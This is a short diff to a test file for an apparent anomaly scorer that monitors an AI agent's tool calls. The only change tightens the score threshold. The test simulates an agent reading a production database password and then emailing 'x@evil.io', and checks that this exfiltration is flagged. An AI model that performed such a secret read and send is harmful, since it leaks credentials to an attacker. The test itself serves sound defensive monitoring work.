@@ -93,7 +93,7 @@ def test_cold_start_uses_context_and_tenant_signals_only() -> None:
     assert odd.cold_start and "new_tool_tenant" in [f.code for f in odd.factors]
     e.observe("newbie", "read_secret", {"name": "prod/db_password"}, T0, "ALLOW", session_id="a")
     exfil = e.score("newbie", "send_email", {"to": "x@evil.io"}, T0 + 1, session_id="a")
-    assert exfil.score >= 0.75  # history-independent: a send right after a secret read
+    assert exfil.score >= 0.8  # history-independent: a send right after a secret read
 
 
 def test_blocked_calls_are_not_learnt_and_raise_the_session() -> None:
